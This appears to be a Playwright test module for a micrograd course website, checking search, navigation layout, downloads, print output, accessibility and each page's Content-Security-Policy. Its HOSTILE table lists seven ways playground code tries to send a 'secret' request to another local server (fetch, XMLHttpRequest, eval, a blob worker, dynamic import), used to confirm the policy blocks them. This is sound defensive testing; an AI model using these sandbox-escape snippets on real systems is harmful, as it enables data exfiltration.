"""The course site as readers of course sites expect it, and closed to the network, in Chromium:
search (Pagefind), the chapter list and the page's outline beside the text (folded on a phone),
"download this notebook" (with the wheel it installs), the print stylesheet, the playground on
the index, try-it links that look like links, and every page's Content-Security-Policy, with
hostile playground code that tries to send something to another address. At 1280x800 and
390x844, light and dark, axe-core on every state visited.

run.py's site part calls check_site_conventions(page, run) with itself as `run` (its check,
serve_site, axe_check, SITE and SHOTS).
"""

import http.server
import re
import threading
import zipfile
from pathlib import Path

CHAPTER = "03_backprop_by_hand"  # a chapter with a try-it link, a step-through and many headings
PHONE = {"width": 390, "height": 844}
WORD = "softsign"  # searched for: a word only a few chapters use
COLOUR_RULES = ["color-contrast", "link-in-text-block"]

# Every Content-Security-Policy violation on the page, from the first script on (add_init_script).
RECORD_VIOLATIONS = """
window.__violations = [];
document.addEventListener('securitypolicyviolation',
  e => window.__violations.push(`${e.effectiveDirective} ${e.blockedURI}`));
"""
SHOWN = "el => !!el && el.getClientRects().length > 0 && getComputedStyle(el).visibility !== 'hidden'"


def policy_of(html_file):
    """{directive: sources} of a built page's Content-Security-Policy <meta>, or None."""
    found = re.search(
        r'<meta http-equiv="Content-Security-Policy" content="([^"]+)"', html_file.read_text("utf-8")
    )
    if not found:
        return None
    return {d.split()[0]: d.split()[1:] for d in found.group(1).split(";") if d.strip()}


def text_of(html_file):
    """A built chapter's searchable text: its <main>, tags dropped."""
    page = html_file.read_text("utf-8")
    main = page[page.index("<main") : page.index("</main>")]
    return re.sub(r"<[^>]+>", " ", main)


class Elsewhere:
    """Another web server (another port is another origin): it records every request that reaches it."""

    def __init__(self):
        self.seen = []
        seen = self.seen

        class Recorder(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                seen.append(self.path)
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()
                self.wfile.write(b"secret received")

            do_POST = do_GET

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        self.url = f"http://127.0.0.1:{self.server.server_port}/"

    def stop(self):
        self.server.shutdown()


def check_site_conventions(page, run):
    page.add_init_script(RECORD_VIOLATIONS)
    check_policies(run)
    server, base = run.serve_site()
    try:
        check_index(page, run, base)
        for viewport in (run.VIEWPORT, PHONE):
            page.set_viewport_size(viewport)
            for scheme in ("light", "dark"):
                page.emulate_media(color_scheme=scheme)
                check_chapter(page, run, base, viewport, scheme)
                check_search(page, run, base, viewport, scheme)
        page.set_viewport_size(run.VIEWPORT)
        page.emulate_media(color_scheme="light")
        check_search_from_file(page, run)
        check_downloads(page, run, base)
        check_print(page, run, base)
        check_playground_is_closed(page, run, base)
    finally:
        server.shutdown()
        page.set_viewport_size(run.VIEWPORT)
        page.emulate_media(media="screen", color_scheme="light")


def no_violations(page, run, where):
    found = page.evaluate("window.__violations || []")
    run.check(not found, f"{where}: no Content-Security-Policy violation {found[:3] or ''}")


def check_policies(run):
    """Every built page has a policy that lets nothing reach another address."""
    pages = sorted(run.SITE.glob("*.html"))
    missing = [p.name for p in pages if policy_of(p) is None]
    run.check(
        len(pages) > 10 and not missing, f"csp: every one of {len(pages)} pages has a policy {missing or ''}"
    )
    loose = []
    for p in pages:
        rules = policy_of(p) or {}
        for directive in ("default-src", "connect-src", "script-src", "img-src", "font-src", "worker-src"):
            sources = rules.get(directive, rules.get("default-src", []))
            allowed = {"'self'", "'wasm-unsafe-eval'", "data:", "blob:"}
            if any(s not in allowed and not s.startswith("'sha256-") for s in sources):
                loose.append(f"{p.name} {directive} {sources}")
        if rules.get("connect-src") != ["'self'"] or "'unsafe-eval'" in rules.get("script-src", []):
            loose.append(f"{p.name} connect-src {rules.get('connect-src')}")
    run.check(not loose, f"csp: only the site's own origin, and no eval, on every page {loose[:3] or ''}")


def check_index(page, run, base):
    page.goto(base + "index.html")
    link = page.locator(".course-playground a[href='playground.html']")
    run.check(link.count() == 1 and link.is_visible(), "index: an entry for the playground")
    page.screenshot(path=str(run.SHOTS / "site_index_playground.png"))
    link.click()
    page.wait_for_load_state("load")
    run.check(page.url.endswith("/playground.html"), f"index: the playground entry opens it ({page.url})")


def check_chapter(page, run, base, viewport, scheme):
    """The chapter list and the outline, beside the text (wide) or folded above it (phone); the
    downloads and the try-it link, styled as links."""
    where = f"site {CHAPTER[:2]} {viewport['width']}x{viewport['height']} {scheme}"
    page.goto(base + CHAPTER + ".html")
    page.wait_for_load_state("load")
    wide = viewport["width"] >= 1100
    state = page.evaluate(
        """() => {
      const box = el => el.getBoundingClientRect();
      const main = box(document.querySelector('main'));
      const side = document.querySelector('.course-sidebar');
      const outline = document.querySelector('.course-outline');
      const folds = [...document.querySelectorAll('details.course-fold')].map(d => d.open);
      const heads = [...document.querySelectorAll('main h2[id], main h3[id]')].map(h => h.id);
      const links = [...outline.querySelectorAll('a')].map(a => decodeURIComponent(a.hash.slice(1)));
      const chapters = [...side.querySelectorAll('nav a')];
      const current = chapters.filter(a => a.getAttribute('aria-current') === 'page')
        .map(a => a.getAttribute('href'));
      const text = getComputedStyle(document.querySelector('main p')).color;
      const tries = [...document.querySelectorAll('.course-try-it a, .course-downloads a')].map(a => {
        const s = getComputedStyle(a);
        return {color: s.color, line: s.textDecorationLine, font: s.fontFamily, size: parseFloat(s.fontSize),
                left: box(a).left >= main.left};
      });
      return {main: [main.left, main.right], side: [box(side).left, box(side).right],
              outline: [box(outline).left, box(outline).right], folds, heads, links,
              chapters: chapters.length, current, text, tries,
              scroll: document.documentElement.scrollWidth};
    }"""
    )
    run.check(
        state["scroll"] <= viewport["width"], f"{where}: nothing wider than the screen ({state['scroll']} px)"
    )
    run.check(state["links"] == state["heads"] and len(state["heads"]) > 5,
              f"{where}: the outline links every heading of the page, in order ({len(state['links'])}"
              f" of {len(state['heads'])})")  # fmt: skip
    run.check(state["chapters"] == len(list(run.SITE.glob("[0-9][0-9]_*.html")))
              and state["current"] == [CHAPTER + ".html"],
              f"{where}: every chapter listed, this one marked as current {state['current']}")  # fmt: skip
    if wide:
        beside = state["side"][1] <= state["main"][0] and state["outline"][0] >= state["main"][1]
        run.check(all(state["folds"]) and beside,
                  f"{where}: chapters left of the text, outline right of it, both open {state}")  # fmt: skip
    else:
        outline = page.locator(".course-outline nav")
        run.check(not any(state["folds"]) and not outline.is_visible(),
                  f"{where}: chapters and outline folded above the text {state['folds']}")  # fmt: skip
        page.click(".course-outline summary")
        run.check(outline.is_visible(), f"{where}: the outline opens at a tap on its summary")
        page.screenshot(path=str(run.SHOTS / f"site_{CHAPTER[:2]}_outline_{viewport['width']}_{scheme}.png"))
    # A click on an outline entry brings its heading to the top of the screen.
    target = state["heads"][3]
    page.locator(f".course-outline a[href='#{target}']").click()
    page.wait_for_timeout(300)
    top = page.evaluate("id => document.getElementById(id).getBoundingClientRect().top", target)
    run.check(-2 <= top <= 40, f"{where}: an outline entry scrolls to its heading (top at {top:.0f} px)")
    page.evaluate("window.scrollTo(0, 0)")
    links = state["tries"]
    looks = [t["color"] != state["text"] and "underline" in t["line"] and "Times" not in t["font"]
             and t["size"] >= 14 and t["left"] for t in links]  # fmt: skip
    run.check(len(links) == 3 and all(looks),
              f"{where}: try-it and download links look like links, in the text column {links}")  # fmt: skip
    page.screenshot(path=str(run.SHOTS / f"site_{CHAPTER[:2]}_{viewport['width']}_{scheme}.png"))
    page.evaluate("() => document.querySelectorAll('details.course-fold').forEach(d => { d.open = true; })")
    run.axe_check(page, where, {}, None if scheme == "light" else COLOUR_RULES)
    no_violations(page, run, where)


def check_search(page, run, base, viewport, scheme):
    """Search finds WORD in exactly the chapters whose text has it, and a result opens its page."""
    where = f"search {viewport['width']}x{viewport['height']} {scheme}"
    expected = sorted(p.name for p in run.SITE.glob("[0-9][0-9]_*.html") if WORD in text_of(p).lower())
    page.goto(base + "index.html")
    box = page.locator(".pagefind-ui__search-input")
    run.check(box.count() == 1 and box.is_visible(), f"{where}: a search box on the index")
    box.fill(WORD)
    page.wait_for_selector(".pagefind-ui__result", timeout=20_000)
    page.wait_for_timeout(500)  # all results in
    found = page.evaluate(
        "() => [...document.querySelectorAll('.pagefind-ui__result-link')].map(a =>"
        " [a.textContent.trim(), new URL(a.href).pathname.split('/').pop()])"
    )
    pages = sorted({p for _, p in found})  # a page's sub-results link to it too
    run.check(
        expected and pages == expected,
        f"{where}: {WORD!r} found in {pages}, the chapters that use it {expected}",
    )
    if viewport["width"] >= 1100 and scheme == "light":
        first = found[0] if found else None
        print(f"     search {WORD!r}: {len(pages)} page(s), {len(found)} links, first {first}")
    page.screenshot(path=str(run.SHOTS / f"site_search_{viewport['width']}_{scheme}.png"))
    run.axe_check(page, where, {}, None if scheme == "light" else COLOUR_RULES)
    no_violations(page, run, where)
    if viewport["width"] < 1100 or scheme == "dark" or not found:
        return
    page.locator(".pagefind-ui__result-link").first.click()
    page.wait_for_load_state("load")
    run.check(page.url.split("#")[0].split("?")[0].endswith(found[0][1]),
              f"{where}: the first result opens its chapter ({page.url})")  # fmt: skip
    # and from a chapter's sidebar too
    page.goto(base + CHAPTER + ".html")
    page.fill(".course-sidebar .pagefind-ui__search-input", WORD)
    page.wait_for_selector(".course-sidebar .pagefind-ui__result", timeout=20_000)
    run.check(True, f"{where}: the sidebar's search box finds it too")
    page.screenshot(path=str(run.SHOTS / f"site_{CHAPTER[:2]}_search.png"))


def check_search_from_file(page, run):
    """Opened as a file, the search box's place says how to get search."""
    for name in ("index.html", CHAPTER + ".html"):
        page.goto((run.SITE / name).as_uri())
        page.wait_for_load_state("load")
        note = page.locator(".course-search-note")
        run.check(note.is_visible() and "make serve" in note.inner_text()
                  and page.locator(".pagefind-ui__search-input").count() == 0,
                  f"search from file:// ({name}): one line says how to get search")  # fmt: skip
        no_violations(page, run, f"file:// {name}")
    page.screenshot(path=str(run.SHOTS / "site_search_file.png"))
    run.axe_check(page, "search from file://", {}, None)


def check_downloads(page, run, base):
    """Each chapter offers its notebook, as stored, and the wheel its first cell installs."""
    root = run.SITE.parent.parent
    missing = []
    for html_file in sorted(run.SITE.glob("[0-9][0-9]_*.html")):
        hrefs = re.findall(r'class="course-downloads".*?</p>', html_file.read_text("utf-8"), flags=re.S)
        targets = re.findall(r'href="([^"]+)"', hrefs[0]) if hrefs else []
        if [Path(t).name for t in targets] != [
            html_file.stem + ".ipynb",
            "micrograd_lesson-0.1.0-py3-none-any.whl",
        ]:
            missing.append(html_file.name)
    run.check(not missing, f"download: every chapter links its notebook and the wheel {missing or ''}")
    page.goto(base + CHAPTER + ".html")
    got = {}
    for link in page.locator(".course-downloads a").all():
        with page.expect_download() as download:
            link.click()
        got[download.value.suggested_filename] = Path(download.value.path())
    notebook = got.get(CHAPTER + ".ipynb")
    wheel = next((p for name, p in got.items() if name.endswith(".whl")), None)
    stored = root / "notebooks" / (CHAPTER + ".ipynb")
    run.check(notebook is not None and notebook.read_bytes() == stored.read_bytes(),
              f"download: the notebook arrives as stored ({sorted(got)})")  # fmt: skip
    source = re.search(
        r'PACKAGE_SOURCE = "([^"]+)"', (root / "notebooks" / "src" / "build.py").read_text("utf-8")
    )
    names = zipfile.ZipFile(wheel).namelist() if wheel else []
    has_package = "micrograd_lesson/engine.py" in names
    run.check(wheel is not None and source and source.group(1) in got and has_package,
              f"download: the wheel the notebook installs ({source and source.group(1)}), with the package"
              f" ({len(names)} files)")  # fmt: skip


PRINT_STATE = """() => {
  const hidden = sel => [...document.querySelectorAll(sel)].every(el => el.getClientRects().length === 0);
  const frames = [...document.querySelectorAll('.course-steps ~ img')];
  return {nav: hidden('.course-sidebar, .course-outline, nav, .course-search, .course-steps'),
          links: hidden('.course-try-it, .course-downloads'),
          main: document.querySelector('main').getBoundingClientRect().width,
          frames: frames.length, shown: frames.filter(f => getComputedStyle(f).display !== 'none').length};
}"""


def check_print(page, run, base):
    """On paper: no navigation, the text at full width, every frame of a step-through."""
    page.goto(base + CHAPTER + ".html")
    page.wait_for_load_state("load")
    page.emulate_media(media="print")
    state = page.evaluate(PRINT_STATE)
    run.check(state["nav"] and state["links"], f"print: no navigation, search, outline or site links {state}")
    run.check(state["main"] >= run.VIEWPORT["width"] - 40, f"print: the text takes the page's width {state}")
    run.check(state["frames"] > 1 and state["shown"] == state["frames"],
              f"print: every step-through frame printed ({state['shown']} of {state['frames']})")  # fmt: skip
    page.screenshot(path=str(run.SHOTS / f"site_{CHAPTER[:2]}_print.png"))
    pdf = page.pdf()
    run.check(pdf.startswith(b"%PDF") and len(pdf) > 10_000, f"print: a PDF of {len(pdf) // 1024} KB")
    page.emulate_media(media="screen")


# Playground code that tries to send something to another address, each in another way. The
# common ways fail with one sentence saying why; the others fail too (the policy, not that
# sentence, is what stops them): the other server must see none of them.
HOSTILE = {
    "js.fetch": "import js\njs.fetch('{url}fetch?secret=1')\n",
    "open_url": "from pyodide.http import open_url\nopen_url('{url}open_url?secret=1')\n",
    "the fetch behind the sentence": "import js\njs.WorkerGlobalScope.prototype.fetch.call(js, '{url}p')\n",
    "XMLHttpRequest": "import js\nr = js.XMLHttpRequest.new()\nr.open('GET', '{url}xhr', False)\nr.send()\n",
    "eval": "import js\njs.eval(\"fetch('{url}eval')\")\n",
    "a worker of its own": (
        "import js\nb = js.Blob.new([\"fetch('{url}nested')\"], {{'type': 'text/javascript'}})\n"
        "js.Worker.new(js.URL.createObjectURL(b))\n"
    ),
    "import()": "from pyodide.code import run_js\nrun_js(\"import('{url}module.js')\")\n",
}
CLEAR = ("js.fetch", "open_url", "XMLHttpRequest")
SAYS = "text => document.getElementById('error').textContent.includes(text)"


def check_playground_is_closed(page, run, base):
    elsewhere = Elsewhere()
    try:
        # The other server does answer this browser, from a page with no policy (on a third address).
        third = Elsewhere()
        page.goto(third.url + "page")
        page.evaluate("url => fetch(url + 'control').catch(() => null)", elsewhere.url)
        page.wait_for_timeout(300)
        third.stop()
        run.check(
            elsewhere.seen == ["/control"],
            f"csp: the other server answers a page without a policy {elsewhere.seen}",
        )
        page.goto(base + "playground.html")
        page.wait_for_function(run.PLAYGROUND_READY, timeout=180_000)
        no_violations(page, run, "playground, Python ready")  # Pyodide and Graphviz need no more
        for way, code in HOSTILE.items():
            _, error = run.playground_run(page, code.format(url=elsewhere.url))
            if way in CLEAR:  # this run's message (the last run's may still be on show as it starts)
                path = re.search(r"\{url\}(\w+)", code).group(1)
                try:
                    page.wait_for_function(SAYS, arg=elsewhere.url + path, timeout=30_000)
                except Exception:  # noqa: BLE001 (the check below says what was shown)
                    pass
                error = page.inner_text("#error").strip()
                run.check("cannot reach" in error and elsewhere.url in error and "network" in error,
                          f"csp: {way} to another address fails, saying why: {error!r}")  # fmt: skip
        page.wait_for_timeout(1500)  # anything sent on its way has arrived by now
        run.check(elsewhere.seen == ["/control"],
                  f"csp: nothing from the playground reached the other server, {len(HOSTILE)} ways tried"
                  f" {elsewhere.seen[1:]}")  # fmt: skip
        page.fill("#code", 'a=Value(2.0,label="a"); b=a*a; b.backward()')
        page.click("#run")  # after an error, "Done" (not a hidden error) says this run has ended
        page.wait_for_function("() => document.getElementById('status').textContent.startsWith('Done')")
        grad = page.inner_text("#values tbody tr[data-label=a] td:nth-child(3)")
        run.check(grad == "4.0000", f"csp: the playground still runs (a.grad {grad})")
        page.screenshot(path=str(run.SHOTS / "playground_csp.png"))
        run.playground_run(page, HOSTILE["js.fetch"].format(url=elsewhere.url))
        page.wait_for_function(SAYS, arg=elsewhere.url + "fetch")
        page.screenshot(path=str(run.SHOTS / "playground_network_blocked.png"))
        for scheme in ("light", "dark"):
            page.emulate_media(color_scheme=scheme)
            run.axe_check(
                page,
                f"playground, network blocked, {scheme}",
                {},
                None if scheme == "light" else COLOUR_RULES,
            )
        page.emulate_media(color_scheme="light")
    finally:
        elsewhere.stop()
